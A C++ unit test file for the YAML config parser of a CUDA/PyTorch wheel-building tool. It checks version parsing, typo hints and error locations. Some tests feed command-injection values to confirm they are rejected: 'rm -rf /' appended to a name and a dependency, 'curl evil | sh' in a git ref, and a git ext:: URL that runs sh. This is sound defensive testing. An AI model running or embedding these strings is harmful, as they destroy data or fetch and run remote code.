#include "common/config/config_parser.h"

#include <filesystem>
#include <fstream>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/unit/common/config_test_util.h"

namespace cwb {
namespace {

using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::Pair;
using testing::ParseErrors;

// The seed tool's config, byte for byte in its format.
constexpr char kSeedConfig[] = R"(output_dir_host: /tmp/wheels
build_target:
  python_version: 3.10
  cuda_version: 12.1
  pytorch_version: 2.3.0
projects:
  - name: flash-attention
    repo_url: https://github.com/Dao-AILab/flash-attention.git
    repo_ref: v2.6.3
    build_command: python setup.py bdist_wheel
    dependencies:
      - ninja
      - packaging
  - name: causal-conv1d
    repo_url: https://github.com/Dao-AILab/causal-conv1d.git
    build_command: pip wheel . --no-deps -w /cwb/out
pytorch_base_images:
  "2.3.0":
    "12.1": pytorch/pytorch:2.3.0-cuda12.1-cudnn8-devel
apt_packages:
  - git
pip_packages:
  - wheel
)";

TEST(ConfigParserTest, AcceptsSeedConfigUnchanged) {
  Diagnostics diagnostics;
  std::optional<Config> config = ParseConfig(kSeedConfig, "seed.yaml", diagnostics);
  ASSERT_TRUE(config.has_value()) << diagnostics.ToString();
  EXPECT_EQ(config->output_dir, "/tmp/wheels");
  ASSERT_EQ(config->matrix.axes.size(), 3u);
  EXPECT_EQ(config->matrix.axes[0].name, "python_version");
  // Versions are kept as written: 3.10 is not the float 3.1.
  EXPECT_THAT(config->matrix.axes[0].values, ElementsAre("3.10"));
  EXPECT_THAT(config->matrix.axes[1].values, ElementsAre("12.1"));
  EXPECT_THAT(config->matrix.axes[2].values, ElementsAre("2.3.0"));
  ASSERT_EQ(config->projects.size(), 2u);
  EXPECT_EQ(config->projects[0].name, "flash-attention");
  EXPECT_EQ(config->projects[0].repo_ref, "v2.6.3");
  EXPECT_THAT(config->projects[0].dependencies, ElementsAre("ninja", "packaging"));
  EXPECT_EQ(config->projects[1].repo_ref, "");
  EXPECT_EQ(config->base_images.at("2.3.0").at("12.1").image,
            "pytorch/pytorch:2.3.0-cuda12.1-cudnn8-devel");
  EXPECT_THAT(config->apt_packages, ElementsAre("git"));
  EXPECT_THAT(config->pip_packages, ElementsAre("wheel"));
}

TEST(ConfigParserTest, ParsesMatrixWithExtraAxisIncludeExcludeAndOverrides) {
  constexpr char kText[] = R"(build_matrix:
  cuda_version: [11.8, cpu]
  python_version: [3.9, 3.10]
  pytorch_version: [2.4.0]
  cxx11_abi: [TRUE, FALSE]
  exclude:
    - python_version: 3.9
      cuda_version: cpu
  include:
    - python_version: 3.12
      cuda_version: 12.4
      pytorch_version: 2.5.1
env:
  MAX_JOBS: 4
projects:
  - name: ext
    repo_url: git@github.com:org/ext.git
    env:
      TORCH_CUDA_ARCH_LIST: "8.0;9.0+PTX"
    matrix:
      cuda_version: [11.8]
      exclude:
        - cxx11_abi: FALSE
pytorch_base_images:
  "2.4.0": {"11.8": a:1, cpu: b:1}
)";
  Diagnostics diagnostics;
  std::optional<Config> config = ParseConfig(kText, "m.yaml", diagnostics);
  ASSERT_TRUE(config.has_value()) << diagnostics.ToString();
  // Required axes come first in canonical order, then extra axes.
  ASSERT_EQ(config->matrix.axes.size(), 4u);
  EXPECT_EQ(config->matrix.axes[0].name, "python_version");
  EXPECT_EQ(config->matrix.axes[1].name, "cuda_version");
  EXPECT_EQ(config->matrix.axes[2].name, "pytorch_version");
  EXPECT_EQ(config->matrix.axes[3].name, "cxx11_abi");
  EXPECT_THAT(config->matrix.axes[1].values, ElementsAre("11.8", "cpu"));
  ASSERT_EQ(config->matrix.exclude.size(), 1u);
  EXPECT_THAT(config->matrix.exclude[0].values,
              ElementsAre(Pair("python_version", "3.9"), Pair("cuda_version", "cpu")));
  ASSERT_EQ(config->matrix.include.size(), 1u);
  EXPECT_EQ(config->env[0].name, "MAX_JOBS");
  EXPECT_EQ(config->env[0].value, "4");
  ASSERT_TRUE(config->projects[0].restriction.has_value());
  EXPECT_EQ(config->projects[0].restriction->only[0].name, "cuda_version");
  EXPECT_EQ(config->projects[0].env[0].value, "8.0;9.0+PTX");
}

TEST(ConfigParserTest, UnknownTopLevelKeySuggestsTheKnownOne) {
  std::string text = testing::kMinimalMatrix;
  text += "apt_pakages: [git]\n";
  EXPECT_EQ(ParseErrors(text),
            "test.yaml:11:1: apt_pakages: unknown key 'apt_pakages' (did you mean 'apt_packages'?)");
}

TEST(ConfigParserTest, ReleaseKeysAtTopAndPerProject) {
  constexpr char kText[] = R"(build_target: {python_version: 3.10, cuda_version: 12.1, pytorch_version: 2.3.0}
local_version: true
repair_command: auditwheel repair "$CWB_WHEEL" -w "$CWB_REPAIR_DIR"
projects:
  - name: a
    repo_url: https://x/a.git
    local_version: "{{cuda_tag}}.torch{{torch_major_minor}}"
    test_command: python -c "import a"
    test_dependencies: [pytest]
  - name: b
    repo_url: https://x/b.git
    local_version: false
    repair_command:
pytorch_base_images: {"2.3.0": {"12.1": i:1}}
)";
  Diagnostics diagnostics;
  std::optional<Config> config = ParseConfig(kText, "test.yaml", diagnostics);
  ASSERT_TRUE(config.has_value()) << diagnostics.ToString();
  ASSERT_TRUE(config->local_version.has_value());
  EXPECT_EQ(config->local_version->format, "{{variant}}");
  EXPECT_EQ(config->repair_command, R"(auditwheel repair "$CWB_WHEEL" -w "$CWB_REPAIR_DIR")");
  const ProjectConfig& a = config->projects[0];
  EXPECT_EQ(a.local_version->format, "{{cuda_tag}}.torch{{torch_major_minor}}");
  EXPECT_EQ(a.local_version->key_path, "projects[0].local_version");
  EXPECT_EQ(a.local_version->location.ToString(), "test.yaml:7:20");
  EXPECT_FALSE(a.repair_command.has_value());  // the config's
  EXPECT_EQ(a.test_command, R"(python -c "import a")");
  EXPECT_THAT(a.test_dependencies, ::testing::ElementsAre("pytest"));
  const ProjectConfig& b = config->projects[1];
  EXPECT_EQ(b.local_version->format, "");  // false: none
  EXPECT_EQ(b.repair_command, std::optional<std::string>(""));  // null: none
}

TEST(ConfigParserTest, ReleaseKeysWithBadValuesAreNamed) {
  constexpr char kText[] = R"(build_target: {python_version: 3.10, cuda_version: 12.1, pytorch_version: 2.3.0}
local_version: {{variant}}
projects:
  - name: a
    repo_url: https://x/a.git
    test_comand: python -c "import a"
    test_dependencies: ["pytest; rm -rf /"]
    repair_command: "  "
pytorch_base_images: {"2.3.0": {"12.1": i:1}}
)";
  const std::string errors = ParseErrors(kText);
  EXPECT_THAT(errors, HasSubstr("test.yaml:2:16: local_version: expected true, false or a label format in quotes"));
  EXPECT_THAT(errors, HasSubstr("(unquoted braces are a YAML mapping)"));
  EXPECT_THAT(errors, HasSubstr("test.yaml:6:5: projects[0].test_comand: unknown key 'test_comand' (did you mean 'test_command'?)"));
  EXPECT_THAT(errors, HasSubstr("test.yaml:7:25: projects[0].test_dependencies[0]:"));
  EXPECT_THAT(errors, HasSubstr("test.yaml:8:21: projects[0].repair_command: the command is empty"));
}

TEST(ConfigParserTest, UnknownProjectKeyNamesItsPath) {
  constexpr char kText[] = R"(build_target: {python_version: 3.10, cuda_version: 12.1, pytorch_version: 2.3.0}
projects:
  - name: a
    repo_url: https://x/a.git
    repo_rev: main
pytorch_base_images: {"2.3.0": {"12.1": i:1}}
)";
  EXPECT_EQ(ParseErrors(kText),
            "test.yaml:5:5: projects[0].repo_rev: unknown key 'repo_rev' (did you mean "
            "'repo_ref'?)");
}

TEST(ConfigParserTest, MalformedVersionsAreReportedWithPlaces) {
  constexpr char kText[] = R"(build_matrix:
  python_version: [3.10, three]
  cuda_version: [12.1, 12.x]
  pytorch_version: [2.3.0]
projects:
  - name: a
    repo_url: https://x/a.git
pytorch_base_images: {"2.3.0": {"12.1": i:1}}
)";
  const std::string errors = ParseErrors(kText);
  EXPECT_THAT(errors, HasSubstr("test.yaml:2:26: build_matrix.python_version[1]: 'three' is not "
                                "a valid python version"));
  EXPECT_THAT(errors, HasSubstr("test.yaml:3:24: build_matrix.cuda_version[1]: '12.x' is not a "
                                "valid cuda version"));
}

TEST(ConfigParserTest, ReportsEveryErrorAtOnce) {
  constexpr char kText[] = R"(build_target:
  python_version: 3.10
  cuda_version: 12.1
  pytorch_versoin: 2.3.0
projects:
  - name: "bad name; rm -rf /"
    repo_url: https://x/a.git
    repo_ref: "main; curl evil | sh"
  - name: b
    repo_url: "ext::sh -c touch% /tmp/pwned"
pytorch_base_images: {"2.3.0": {"12.1": i:1}}
)";
  Diagnostics diagnostics;
  EXPECT_FALSE(ParseConfig(kText, "test.yaml", diagnostics).has_value());
  const std::string errors = diagnostics.ToString();
  EXPECT_THAT(errors, HasSubstr("test.yaml:4:3: build_target.pytorch_versoin: unknown key "
                                "'pytorch_versoin' (did you mean 'pytorch_version'?)"));
  EXPECT_THAT(errors, HasSubstr("test.yaml:2:3: build_target: missing required key "
                                "'pytorch_version'"));
  EXPECT_THAT(errors, HasSubstr("test.yaml:6:11: projects[0].name: 'bad name; rm -rf /' is not "
                                "a valid project name"));
  EXPECT_THAT(errors, HasSubstr("test.yaml:8:15: projects[0].repo_ref: 'main; curl evil | sh' "
                                "is not a valid git ref"));
  EXPECT_THAT(errors, HasSubstr("test.yaml:10:15: projects[1].repo_url:"));
  EXPECT_EQ(diagnostics.errors().size(), 5u) << errors;
}

TEST(ConfigParserTest, DuplicateProjectNamesAreRefused) {
  constexpr char kText[] = R"(build_target: {python_version: 3.10, cuda_version: 12.1, pytorch_version: 2.3.0}
projects:
  - name: a
    repo_url: https://x/a.git
  - name: a
    repo_url: https://x/b.git
pytorch_base_images: {"2.3.0": {"12.1": i:1}}
)";
  EXPECT_EQ(ParseErrors(kText),
            "test.yaml:5:11: projects[1].name: duplicate project name 'a' (first given at "
            "test.yaml:3:5)");
}

TEST(ConfigParserTest, DuplicateYamlKeysAreRefused) {
  std::string text = testing::kMinimalMatrix;
  text += "apt_packages: [git]\napt_packages: [curl]\n";
  EXPECT_EQ(ParseErrors(text),
            "test.yaml:12:1: apt_packages: duplicate key (first given at test.yaml:11:1)");
}

TEST(ConfigParserTest, YamlSyntaxErrorHasLineAndColumn) {
  constexpr char kText[] = "build_matrix:\n  python_version: [3.10\nprojects: []\n";
  EXPECT_THAT(ParseErrors(kText), ::testing::StartsWith("test.yaml:3:"));
}

TEST(ConfigParserTest, WrongTypesAreNamed) {
  constexpr char kText[] = R"(build_matrix:
  python_version: {a: 1}
  cuda_version: [12.1]
  pytorch_version: []
projects: {name: a}
pytorch_base_images: [x]
)";
  const std::string errors = ParseErrors(kText);
  EXPECT_THAT(errors, HasSubstr("test.yaml:2:19: build_matrix.python_version: expected a list, "
                                "found a mapping"));
  EXPECT_THAT(errors, HasSubstr("test.yaml:4:20: build_matrix.pytorch_version: an axis needs at "
                                "least one value"));
  EXPECT_THAT(errors, HasSubstr("test.yaml:5:11: projects: expected a list of projects, found a "
                                "mapping"));
  EXPECT_THAT(errors, HasSubstr("test.yaml:6:22: pytorch_base_images: expected a mapping, found "
                                "a list"));
}

TEST(ConfigParserTest, MisspeltMatrixKeyIsNotTakenAsAnExtraAxis) {
  constexpr char kText[] = R"(build_matrix:
  python_version: [3.10]
  cuda_version: [12.1]
  pytorch_version: [2.3.0]
  exlude:
    - cuda_version: 12.1
projects:
  - name: a
    repo_url: https://x/a.git
pytorch_base_images: {"2.3.0": {"12.1": i:1}}
)";
  EXPECT_THAT(ParseErrors(kText),
              HasSubstr("test.yaml:5:3: build_matrix.exlude: unknown key 'exlude' (did you mean "
                        "'exclude'?"));
}

TEST(ConfigParserTest, ExcludeKeyMustBeAnAxis) {
  constexpr char kText[] = R"(build_matrix:
  python_version: [3.10]
  cuda_version: [12.1]
  pytorch_version: [2.3.0]
  exclude:
    - cuda: 12.1
projects:
  - name: a
    repo_url: https://x/a.git
pytorch_base_images: {"2.3.0": {"12.1": i:1}}
)";
  EXPECT_EQ(ParseErrors(kText),
            "test.yaml:6:7: build_matrix.exclude[0].cuda: 'cuda' is not an axis of the matrix");
}

TEST(ConfigParserTest, BothTargetAndMatrixIsAnError) {
  std::string text = testing::kMinimalMatrix;
  text += "build_target: {python_version: 3.10, cuda_version: 12.1, pytorch_version: 2.3.0}\n";
  EXPECT_THAT(ParseErrors(text), HasSubstr("build_matrix: give either build_target"));
}

TEST(ConfigParserTest, EmptyOrScalarDocumentIsRefused) {
  EXPECT_EQ(ParseErrors(""), "test.yaml:1:1: the config must be a mapping of keys, not nothing");
  EXPECT_EQ(ParseErrors("hello"),
            "test.yaml:1:1: the config must be a mapping of keys, not a scalar");
}

TEST(ConfigParserTest, LoadConfigFileResolvesPathsAgainstTheConfigDirectory) {
  const std::filesystem::path dir =
      std::filesystem::path(::testing::TempDir()) / "cwb_load_config_test";
  std::filesystem::create_directories(dir);
  {
    std::ofstream(dir / "Custom.template") << "FROM {{base_image}}\n";
    std::ofstream config(dir / "c.yaml");
    config << "output_dir_host: out\n"
              "dockerfile_template: Custom.template\n"
           << std::string(testing::kMinimalMatrix).replace(
                  std::string(testing::kMinimalMatrix).find("https://example.com/demo.git"),
                  std::string("https://example.com/demo.git").size(), "./repos/demo");
  }
  absl::StatusOr<Config> config = LoadConfigFile(dir / "c.yaml");
  ASSERT_TRUE(config.ok()) << config.status();
  EXPECT_EQ(config->output_dir, dir / "out");
  EXPECT_EQ(config->dockerfile_template, "FROM {{base_image}}\n");
  EXPECT_EQ(config->template_origin, (dir / "Custom.template").string());
  EXPECT_EQ(config->projects[0].repo_url, (dir / "repos/demo").string());
}

TEST(ConfigParserTest, MissingTemplateFileIsReportedAtItsKey) {
  const std::filesystem::path dir =
      std::filesystem::path(::testing::TempDir()) / "cwb_missing_template_test";
  std::filesystem::create_directories(dir);
  std::ofstream(dir / "c.yaml") << "dockerfile_template: nope.template\n"
                                << testing::kMinimalMatrix;
  absl::StatusOr<Config> config = LoadConfigFile(dir / "c.yaml");
  ASSERT_FALSE(config.ok());
  EXPECT_THAT(std::string(config.status().message()),
              HasSubstr("c.yaml:1:22: dockerfile_template: cannot read template"));
}

}  // namespace
}  // namespace cwb
